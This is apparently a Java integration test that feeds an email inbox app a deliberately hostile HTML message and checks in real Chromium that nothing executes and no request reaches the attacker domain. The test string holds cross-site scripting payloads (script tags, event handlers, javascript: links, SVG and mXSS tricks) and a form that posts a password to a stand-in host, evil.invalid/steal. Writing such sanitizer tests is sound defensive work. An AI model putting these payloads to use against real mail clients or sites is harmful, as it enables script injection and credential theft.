package org.opportune.inbox;

import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.UUID;
import java.util.concurrent.CopyOnWriteArrayList;

import com.microsoft.playwright.options.AriaRole;
import com.microsoft.playwright.Page;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import org.opportune.conversation.ConversationService;
import org.opportune.identity.IdentityService;
import org.opportune.identity.Role;
import org.opportune.mail.IngestSource;
import org.opportune.mail.MailIngestion;
import org.opportune.mail.MailboxService;
import org.opportune.shared.Actor;
import org.opportune.testing.Chromium;
import org.opportune.testing.IntegrationTest;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

/**
 * An HTML email built to attack the reader (script, event handlers, javascript: links, SVG, CSS,
 * meta refresh, frames, forms, plugins), opened in a real Chromium: nothing runs, no dialog opens and
 * no request leaves for the attacker's hosts, while the text is still readable.
 */
@IntegrationTest
class HostileHtmlBrowserIntegrationTests {

    private static final String PASSWORD = "correct horse battery staple";
    private static final String HOSTILE = """
            <html><head><meta http-equiv="refresh" content="0;url=http://evil.invalid/refresh">
            <style>@import url(http://evil.invalid/import.css); body { background: url(http://evil.invalid/bg.png) }</style>
            <link rel="stylesheet" href="http://evil.invalid/link.css">
            <script>alert('script')</script><script src="http://evil.invalid/x.js"></script>
            <base href="http://evil.invalid/"></head>
            <body onload="alert('onload')">
            <p id="offer">Our best offer for 40 desks</p>
            <img src="http://evil.invalid/pixel.gif" onerror="alert('onerror')">
            <img src="relative.png" onerror="alert('relative')">
            <a id="js" href="javascript:alert('link')">click me</a>
            <a href="http://evil.invalid/phish" onclick="alert('click')">offer details</a>
            <svg width="10" height="10" onload="alert('svg')"><script>alert('svg script')</script>
              <image href="http://evil.invalid/svg.png"/><animate onbegin="alert('animate')" attributeName="x" dur="1s"/></svg>
            <iframe src="javascript:alert('iframe')"></iframe><iframe src="http://evil.invalid/frame"></iframe>
            <form action="http://evil.invalid/steal" method="post"><input name="password"><button id="go">go</button></form>
            <div style="background-image: url(http://evil.invalid/div.png)">styled</div>
            <object data="http://evil.invalid/x.swf"></object><embed src="http://evil.invalid/e.swf">
            <math><mtext><table><mglyph><style><img src=x onerror="alert('mxss')"></style></mglyph></table></mtext></math>
            </body></html>""";

    private static Chromium chromium;

    @LocalServerPort
    int port;

    @Autowired
    MailboxService mailboxes;

    @Autowired
    MailIngestion ingestion;

    @Autowired
    ConversationService conversations;

    @Autowired
    IdentityService identity;

    @BeforeAll
    static void browser() {
        chromium = new Chromium();
    }

    @AfterAll
    static void close() {
        chromium.close();
    }

    @Test
    void aHostileHtmlEmailExecutesNothingAndSendsNoRequestAway() {
        var run = UUID.randomUUID().toString().substring(0, 8);
        var mailboxId = mailboxes.ensureMailbox("sales@hostile-test.example").id();
        var raw = """
                From: Eve <eve@hostile.example>
                To: sales@hostile-test.example
                Subject: Special offer %s
                Message-ID: <offer-%s@hostile.example>
                Date: Mon, 4 May 2026 09:00:00 +0000
                MIME-Version: 1.0
                Content-Type: text/html; charset=utf-8

                %s
                """.formatted(run, run, HOSTILE).replace("\n", "\r\n");
        var stored = ingestion.ingest(IngestSource.imported(mailboxId, "test"), raw.getBytes(StandardCharsets.UTF_8));
        await().atMost(Duration.ofSeconds(30)).until(() -> conversations.conversationOf(stored.messageId()).isPresent());
        var conversationId = conversations.conversationOf(stored.messageId()).orElseThrow();
        var username = "rep-" + run;
        identity.createUserWithPassword(Actor.system(), username, "Rita Rep", null, Role.REP, PASSWORD, "test");

        try (var context = chromium.newContext(port)) {
            var dialogs = new CopyOnWriteArrayList<String>();
            var requests = new CopyOnWriteArrayList<String>();
            context.onRequest(request -> requests.add(request.url()));
            var page = context.newPage();
            page.onDialog(dialog -> {
                dialogs.add(dialog.message());
                dialog.dismiss();
            });
            signIn(page, username);

            page.navigate("/conversations/" + conversationId);
            var frame = page.frameLocator("iframe.mail-frame");
            assertThat(frame.locator("p").first().textContent()).isEqualTo("Our best offer for 40 desks");
            frame.locator("text=click me").click();
            page.waitForTimeout(1500);

            assertThat(dialogs).as("dialogs opened").isEmpty();
            assertThat(requests).as("requests that left for the attacker").noneMatch(url -> url.contains("evil.invalid"))
                    .allMatch(url -> url.startsWith("http://127.0.0.1:" + port + "/"));
            assertThat(page.url()).endsWith("/conversations/" + conversationId);
            assertThat(frame.locator("script, svg, iframe, form, object, embed, style, body link, body meta, base").count()).isZero();
            assertThat(page.getByRole(AriaRole.LINK, new Page.GetByRoleOptions().setName("Load remote images")).isVisible()).isTrue();
        }
    }

    private void signIn(Page page, String username) {
        page.navigate("/login");
        page.getByLabel("Username").fill(username);
        page.getByLabel("Password").fill(PASSWORD);
        page.getByRole(AriaRole.BUTTON, new Page.GetByRoleOptions().setName("Sign in")).click();
        page.waitForURL(url -> !url.contains("/login"));
    }
}
